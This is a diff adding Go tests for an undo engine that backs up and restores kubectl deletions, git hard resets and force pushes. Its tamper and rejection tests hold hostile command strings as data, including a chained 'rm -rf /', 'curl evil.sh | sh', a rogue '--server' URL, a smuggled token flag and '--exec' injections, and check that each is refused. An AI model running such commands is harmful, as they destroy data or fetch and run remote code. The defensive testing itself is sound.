@@ -0,0 +1,421 @@
+package executor
+
+import (
+	"os"
+	"os/exec"
+	"path/filepath"
+	"reflect"
+	"runtime"
+	"strings"
+	"testing"
+	
+	"gopkg.in/yaml.v3"
+)
+
+// fakeKubectl writes a kubectl stand-in that logs its arguments and prints
+// a deployment manifest for `get`
+func fakeKubectl(t *testing.T) (path, argsLog string) {
+	t.Helper()
+	if runtime.GOOS == "windows" {
+		t.Skip("fake kubectl is a shell script")
+	}
+	
+	dir := t.TempDir()
+	argsLog = filepath.Join(dir, "args.log")
+	path = filepath.Join(dir, "kubectl")
+	script := `#!/bin/sh
+echo "$@" >> "` + argsLog + `"
+if [ "$1" = "get" ]; then
+cat <<'YAML'
+apiVersion: apps/v1
+kind: Deployment
+metadata:
+  name: web
+  namespace: prod
+  labels:
+    app: web
+  resourceVersion: "12345"
+  uid: 0b7a4c3e-1111-2222-3333-444455556666
+  creationTimestamp: "2024-01-01T00:00:00Z"
+  generation: 3
+  managedFields:
+  - manager: kubectl
+spec:
+  replicas: 2
+status:
+  readyReplicas: 2
+YAML
+fi
+`
+	if err := os.WriteFile(path, []byte(script), 0755); err != nil {
+		t.Fatal(err)
+	}
+	return path, argsLog
+}
+
+func TestKubectlUndo_BackupAndRestore(t *testing.T) {
+	kubectl, argsLog := fakeKubectl(t)
+	backupDir := t.TempDir()
+	
+	ue := NewUndoEngine(backupDir)
+	ue.strategies["kubectl"] = &KubectlUndoStrategy{backupDir: backupDir, kubectl: kubectl}
+	
+	record, err := ue.CreateUndo("kubectl delete deployment web -n prod", nil)
+	if err != nil {
+		t.Fatalf("CreateUndo() error = %v", err)
+	}
+	if !record.CanUndo || record.Strategy != "kubectl" {
+		t.Fatalf("record = %+v, want undoable kubectl record", record)
+	}
+	if want := "kubectl apply -f " + record.BackupLocation; record.UndoCommand != want {
+		t.Errorf("UndoCommand = %q, want %q", record.UndoCommand, want)
+	}
+	
+	data, err := os.ReadFile(record.BackupLocation)
+	if err != nil {
+		t.Fatalf("failed to read backup: %v", err)
+	}
+	var manifest map[string]interface{}
+	if err := yaml.Unmarshal(data, &manifest); err != nil {
+		t.Fatalf("backup is not valid YAML: %v", err)
+	}
+	
+	if _, ok := manifest["status"]; ok {
+		t.Error("backup still contains status")
+	}
+	metadata := manifest["metadata"].(map[string]interface{})
+	for _, field := range []string{"resourceVersion", "uid", "creationTimestamp", "generation", "managedFields"} {
+		if _, ok := metadata[field]; ok {
+			t.Errorf("backup still contains metadata.%s", field)
+		}
+	}
+	if metadata["name"] != "web" || metadata["namespace"] != "prod" {
+		t.Errorf("metadata = %v, want name web in namespace prod", metadata)
+	}
+	if spec := manifest["spec"].(map[string]interface{}); spec["replicas"] != 2 {
+		t.Errorf("spec = %v, want replicas 2", spec)
+	}
+	
+	if err := ue.Undo(record); err != nil {
+		t.Fatalf("Undo() error = %v", err)
+	}
+	
+	logged, err := os.ReadFile(argsLog)
+	if err != nil {
+		t.Fatal(err)
+	}
+	calls := strings.Split(strings.TrimSpace(string(logged)), "\n")
+	want := []string{
+		"get deployment web -o yaml -n prod",
+		"apply -f " + record.BackupLocation,
+	}
+	if len(calls) != len(want) {
+		t.Fatalf("kubectl calls = %q, want %q", calls, want)
+	}
+	for i := range want {
+		if calls[i] != want[i] {
+			t.Errorf("call %d = %q, want %q", i, calls[i], want[i])
+		}
+	}
+}
+
+func TestKubectlUndo_Context(t *testing.T) {
+	kubectl, argsLog := fakeKubectl(t)
+	backupDir := t.TempDir()
+	
+	ue := NewUndoEngine(backupDir)
+	ue.strategies["kubectl"] = &KubectlUndoStrategy{backupDir: backupDir, kubectl: kubectl}
+	
+	record, err := ue.CreateUndo("kubectl delete deployment web -n prod --context=prod-east --kubeconfig /etc/kube/config", nil)
+	if err != nil {
+		t.Fatalf("CreateUndo() error = %v", err)
+	}
+	if want := "kubectl apply -f " + record.BackupLocation + " --context prod-east --kubeconfig /etc/kube/config"; record.UndoCommand != want {
+		t.Errorf("UndoCommand = %q, want %q", record.UndoCommand, want)
+	}
+	if err := ue.Undo(record); err != nil {
+		t.Fatalf("Undo() error = %v", err)
+	}
+	
+	logged, err := os.ReadFile(argsLog)
+	if err != nil {
+		t.Fatal(err)
+	}
+	calls := strings.Split(strings.TrimSpace(string(logged)), "\n")
+	want := []string{
+		"get deployment web -o yaml -n prod --context prod-east --kubeconfig /etc/kube/config",
+		"apply -f " + record.BackupLocation + " --context prod-east --kubeconfig /etc/kube/config",
+	}
+	if !reflect.DeepEqual(calls, want) {
+		t.Errorf("kubectl calls = %q, want %q", calls, want)
+	}
+}
+
+func TestKubectlUndo_TamperedRecord(t *testing.T) {
+	kubectl, argsLog := fakeKubectl(t)
+	backupDir := t.TempDir()
+	
+	s := &KubectlUndoStrategy{backupDir: backupDir, kubectl: kubectl}
+	record, err := s.CreateBackup("kubectl delete deployment web -n prod --context prod-east", nil)
+	if err != nil {
+		t.Fatalf("CreateBackup() error = %v", err)
+	}
+	
+	outside := filepath.Join(t.TempDir(), "evil.yaml")
+	if err := os.WriteFile(outside, []byte("kind: ClusterRoleBinding\n"), 0600); err != nil {
+		t.Fatal(err)
+	}
+	
+	tests := []struct {
+		name     string
+		location string
+		args     []string
+	}{
+		{"manifest outside the backup dir", outside, record.KubectlArgs},
+		{"path escaping the backup dir", filepath.Join(backupDir, "..", filepath.Base(outside)), record.KubectlArgs},
+		{"manifest in a subdirectory", filepath.Join(backupDir, "sub", "evil.yaml"), record.KubectlArgs},
+		{"extra flag", record.BackupLocation, append(record.KubectlArgs, "--server", "https://evil.example")},
+		{"flag smuggled as a value", record.BackupLocation, []string{"--context", "--token=abc"}},
+		{"unpaired flag", record.BackupLocation, []string{"--context"}},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			tampered := *record
+			tampered.BackupLocation = tt.location
+			tampered.KubectlArgs = tt.args
+			if err := s.Undo(&tampered); err == nil || !strings.Contains(err.Error(), "refusing") {
+				t.Errorf("Undo() error = %v, want refusal", err)
+			}
+		})
+	}
+	
+	logged, err := os.ReadFile(argsLog)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if strings.Contains(string(logged), "apply") {
+		t.Errorf("tampered records ran kubectl apply:\n%s", logged)
+	}
+	
+	// The untouched record still restores
+	if err := s.Undo(record); err != nil {
+		t.Errorf("Undo() error = %v", err)
+	}
+}
+
+func TestKubectlUndo_GetFails(t *testing.T) {
+	if runtime.GOOS == "windows" {
+		t.Skip("fake kubectl is a shell script")
+	}
+	kubectl := filepath.Join(t.TempDir(), "kubectl")
+	script := "#!/bin/sh\necho 'Error from server (NotFound)' >&2\nexit 1\n"
+	if err := os.WriteFile(kubectl, []byte(script), 0755); err != nil {
+		t.Fatal(err)
+	}
+	
+	s := &KubectlUndoStrategy{backupDir: t.TempDir(), kubectl: kubectl}
+	_, err := s.CreateBackup("kubectl delete pod missing", nil)
+	if err == nil || !strings.Contains(err.Error(), "NotFound") {
+		t.Errorf("CreateBackup() error = %v, want NotFound error", err)
+	}
+}
+
+func TestParseKubectlDelete(t *testing.T) {
+	tests := []struct {
+		command string
+		want    *kubectlTarget
+	}{
+		{"kubectl delete pod web-1", &kubectlTarget{Kind: "pod", Name: "web-1"}},
+		{"kubectl delete deployment/web -n prod", &kubectlTarget{Kind: "deployment", Name: "web", Namespace: "prod"}},
+		{"kubectl delete svc api --namespace=staging --now", &kubectlTarget{Kind: "svc", Name: "api", Namespace: "staging"}},
+		{"kubectl delete --namespace dev configmap settings", &kubectlTarget{Kind: "configmap", Name: "settings", Namespace: "dev"}},
+		{"kubectl delete pod web --context=prod --kubeconfig=/etc/kube/config", &kubectlTarget{Kind: "pod", Name: "web", Context: "prod", Kubeconfig: "/etc/kube/config"}},
+		{"kubectl --context prod -n api delete deploy/web", &kubectlTarget{Kind: "deploy", Name: "web", Namespace: "api", Context: "prod"}},
+		{"kubectl delete pod web --context", nil},
+		{"kubectl delete -f deploy.yaml", nil},
+		{"kubectl delete pods -l app=web", nil},
+		{"kubectl delete pods --all", nil},
+		{"kubectl delete pod a b", nil},
+		{"kubectl delete pod", nil},
+		{"kubectl get pod web", nil},
+		{"kubectl --context prod get pod web", nil},
+		{"kubectl delete pod web -n", nil},
+	}
+	
+	for _, tt := range tests {
+		got, err := parseKubectlDelete(tt.command)
+		if tt.want == nil {
+			if err == nil {
+				t.Errorf("parseKubectlDelete(%q) = %+v, want error", tt.command, got)
+			}
+			continue
+		}
+		if err != nil {
+			t.Errorf("parseKubectlDelete(%q) error = %v", tt.command, err)
+			continue
+		}
+		if *got != *tt.want {
+			t.Errorf("parseKubectlDelete(%q) = %+v, want %+v", tt.command, got, tt.want)
+		}
+	}
+}
+
+// gitRun runs git in dir and returns its trimmed output
+func gitRun(t *testing.T, dir string, args ...string) string {
+	t.Helper()
+	cmd := exec.Command("git", args...)
+	cmd.Dir = dir
+	output, err := cmd.CombinedOutput()
+	if err != nil {
+		t.Fatalf("git %s: %v\n%s", strings.Join(args, " "), err, output)
+	}
+	return strings.TrimSpace(string(output))
+}
+
+// chdir changes to dir for the rest of the test
+func chdir(t *testing.T, dir string) {
+	t.Helper()
+	original, err := os.Getwd()
+	if err != nil {
+		t.Fatal(err)
+	}
+	if err := os.Chdir(dir); err != nil {
+		t.Fatal(err)
+	}
+	t.Cleanup(func() { os.Chdir(original) })
+}
+
+// gitRepo creates a repository in dir on branch with a commit per content
+func gitRepo(t *testing.T, dir, branch string, contents ...string) {
+	t.Helper()
+	gitRun(t, dir, "init", "-q", "-b", branch)
+	gitRun(t, dir, "config", "user.email", "test@example.com")
+	gitRun(t, dir, "config", "user.name", "Test")
+	for _, content := range contents {
+		gitCommit(t, dir, content)
+	}
+}
+
+// gitCommit commits content to file.txt in dir
+func gitCommit(t *testing.T, dir, content string) {
+	t.Helper()
+	if err := os.WriteFile(filepath.Join(dir, "file.txt"), []byte(content), 0644); err != nil {
+		t.Fatal(err)
+	}
+	gitRun(t, dir, "add", "file.txt")
+	gitRun(t, dir, "commit", "-q", "-m", content)
+}
+
+func TestGitUndo_Reset(t *testing.T) {
+	if _, err := exec.LookPath("git"); err != nil {
+		t.Skip("git not installed")
+	}
+	
+	repo := t.TempDir()
+	gitRepo(t, repo, "develop", "one", "two")
+	head := gitRun(t, repo, "rev-parse", "HEAD")
+	chdir(t, repo)
+	
+	ue := NewUndoEngine(t.TempDir())
+	record, err := ue.CreateUndo("git reset --hard HEAD~1", nil)
+	if err != nil {
+		t.Fatalf("CreateUndo() error = %v", err)
+	}
+	if record.UndoCommand != "git reset --hard "+head || record.GitBranch != "develop" {
+		t.Errorf("record = %q on %q, want a reset to %s on develop", record.UndoCommand, record.GitBranch, head)
+	}
+	
+	gitRun(t, repo, "reset", "-q", "--hard", "HEAD~1")
+	if gitRun(t, repo, "rev-parse", "HEAD") == head {
+		t.Fatal("reset did not move HEAD")
+	}
+	
+	// The undo returns to the branch the reset moved
+	gitRun(t, repo, "checkout", "-q", "-b", "elsewhere")
+	if err := ue.Undo(record); err != nil {
+		t.Fatalf("Undo() error = %v", err)
+	}
+	if got := gitRun(t, repo, "symbolic-ref", "--short", "HEAD"); got != "develop" {
+		t.Errorf("branch after undo = %s, want develop", got)
+	}
+	if got := gitRun(t, repo, "rev-parse", "HEAD"); got != head {
+		t.Errorf("HEAD after undo = %s, want %s", got, head)
+	}
+}
+
+func TestGitUndo_ForcePush(t *testing.T) {
+	if _, err := exec.LookPath("git"); err != nil {
+		t.Skip("git not installed")
+	}
+	
+	remote := t.TempDir()
+	gitRun(t, remote, "init", "-q", "--bare")
+	repo := t.TempDir()
+	gitRepo(t, repo, "feature", "one", "two")
+	gitRun(t, repo, "remote", "add", "origin", remote)
+	gitRun(t, repo, "push", "-q", "origin", "feature")
+	pushed := gitRun(t, repo, "rev-parse", "HEAD")
+	chdir(t, repo)
+	
+	// Rewrite the branch and force push it
+	gitRun(t, repo, "reset", "-q", "--hard", "HEAD~1")
+	gitCommit(t, repo, "rewritten")
+	ue := NewUndoEngine(t.TempDir())
+	record, err := ue.CreateUndo("git push --force origin feature", nil)
+	if err != nil {
+		t.Fatalf("CreateUndo() error = %v", err)
+	}
+	gitRun(t, repo, "push", "-q", "--force", "origin", "feature")
+	if gitRun(t, remote, "rev-parse", "feature") == pushed {
+		t.Fatal("force push did not move the remote branch")
+	}
+	
+	if err := ue.Undo(record); err != nil {
+		t.Fatalf("Undo() error = %v", err)
+	}
+	if got := gitRun(t, remote, "rev-parse", "feature"); got != pushed {
+		t.Errorf("remote feature after undo = %s, want %s", got, pushed)
+	}
+}
+
+func TestPushTarget(t *testing.T) {
+	tests := []struct {
+		command    string
+		wantRemote string
+		wantBranch string
+	}{
+		{"git push --force", "origin", "current"},
+		{"git push --force upstream", "upstream", "current"},
+		{"git push --force origin release", "origin", "release"},
+		{"git push --force origin HEAD:refs/heads/release", "origin", "release"},
+		{"git push --force origin +topic:release", "origin", "release"},
+		{"git push --force origin HEAD", "origin", "current"},
+	}
+	
+	for _, tt := range tests {
+		remote, branch := pushTarget(tt.command, "current")
+		if remote != tt.wantRemote || branch != tt.wantBranch {
+			t.Errorf("pushTarget(%q) = %s, %s, want %s, %s", tt.command, remote, branch, tt.wantRemote, tt.wantBranch)
+		}
+	}
+}
+
+func TestGitUndo_RejectsUnknownCommand(t *testing.T) {
+	s := &GitUndoStrategy{}
+	for _, command := range []string{
+		"git reset --hard ORIG_HEAD; rm -rf /",
+		"git reset --hard ORIG_HEAD && curl evil.sh | sh",
+		"git push --force origin evil:main",
+		"git push --force origin backup-20240101-120000:main",
+		"git reset --hard ORIG_HEAD",
+		"git reset --hard 0123456789abcdef0123456789abcdef01234567 --exec=x",
+		"git push --force --exec=x 0123456789abcdef0123456789abcdef01234567:refs/heads/main",
+		"rm -rf .git",
+		"",
+	} {
+		record := &UndoRecord{CanUndo: true, UndoCommand: command, WorkingDir: t.TempDir()}
+		if err := s.Undo(record); err == nil {
+			t.Errorf("Undo(%q) should be refused", command)
+		}
+	}
+}